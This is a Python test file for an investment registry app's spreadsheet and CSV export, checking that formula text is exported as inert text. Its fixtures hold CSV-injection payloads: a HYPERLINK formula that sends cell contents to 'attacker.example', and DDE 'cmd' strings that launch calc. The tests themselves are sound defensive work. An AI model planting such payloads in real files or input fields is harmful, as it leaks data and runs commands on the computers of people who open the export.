"""The registry's files hold what users typed, safely: no formula runs, no character breaks them."""

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from cuakhau.models.enums import Role
from cuakhau.models.investment import Investor
from tests.conftest import Database, People
from tests.investment.test_portfolio import AMENDMENTS, API, INVESTORS, PROJECTS, upload, workbook

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
NAMES = {"P-1": FORMULA, "P-2": "+cmd|' /C calc'!A0"}
INVESTOR_NAMES = {"NDT-VN": "Công ty Thử nghiệm", "NDT-CN": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _registry(client: TestClient, people: People) -> None:
    book = Workbook()
    book.remove(book.active)
    for name, rows, names in (
        ("investors", INVESTORS, INVESTOR_NAMES),
        ("projects", PROJECTS, NAMES),
    ):
        sheet = book.create_sheet(name)
        sheet.append(rows[0])
        for row in rows[1:]:
            sheet.append([row[0], None, *row[2:]])
            # As a person types it after an apostrophe: text, not a formula.
            sheet.cell(sheet.max_row, 2).value = names[row[0]]
            sheet.cell(sheet.max_row, 2).data_type = "s"
    out = io.BytesIO()
    book.save(out)
    assert upload(client, people, "registry.xlsx", out.getvalue()).status_code == 200


def _export(client: TestClient, people: People, query: str = "") -> bytes:
    response = client.get(f"{API}/export{query}", headers=people[Role.board])
    assert response.status_code == 200, response.text
    return response.content


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(
    client: TestClient, people: People, db: Database
):
    _registry(client, people)
    # Stored before names were checked, or by an import of an older file.
    with db.write() as session:
        session.execute(
            update(Investor).where(Investor.code == "NDT-VN").values(name_vi="Bell\aCo")
        )
    sheet = load_workbook(io.BytesIO(_export(client, people)))["investors"]
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "BellCo" in names


def test_formula_text_is_exported_as_text_and_numbers_as_numbers(
    client: TestClient, people: People
):
    _registry(client, people)
    sheet = load_workbook(io.BytesIO(_export(client, people)))["projects"]
    header = [cell.value for cell in sheet[1]]
    by_code = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2)}
    for code, name in NAMES.items():
        cell = by_code[code]["name_vi"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    capital = by_code["P-1"]["capital_vnd"]
    assert (capital.value, capital.data_type) == (120_000_000_000, "n")

    text = _export(client, people, "?format=csv&sheet=projects").decode("utf-8-sig")
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["P-1"]["name_vi"] == "'" + FORMULA
    assert rows["P-2"]["name_vi"] == "'" + NAMES["P-2"]
    assert rows["P-1"]["capital_vnd"] == "120000000000"


def test_an_exported_csv_imports_back_to_the_same_names(
    client: TestClient, people: People, db: Database
):
    _registry(client, people)
    exported = _export(client, people, "?format=csv&sheet=investors")
    with db.write() as session:
        session.execute(update(Investor).values(name_vi="renamed"))
    assert upload(client, people, "investors.csv", exported).status_code == 200
    sheet = load_workbook(io.BytesIO(_export(client, people)))["investors"]
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names == INVESTOR_NAMES


def test_an_english_export_writes_amounts_the_english_way(
    client: TestClient, people: People
) -> None:
    content = workbook(investors=INVESTORS, projects=PROJECTS, amendments=AMENDMENTS)
    assert upload(client, people, "portfolio.xlsx", content).status_code == 200
    url = f"{API}/reports/change?as_of=2022-12-31&since=2021-01-01&format=csv"
    english = client.get(url, headers={**people[Role.board], "Accept-Language": "en"})
    assert english.status_code == 200, english.text
    assert "150,000,000,000 VND" in english.content.decode("utf-8-sig")
    vietnamese = client.get(url, headers={**people[Role.board], "Accept-Language": "vi"})
    assert "150.000.000.000 VND" in vietnamese.content.decode("utf-8-sig")
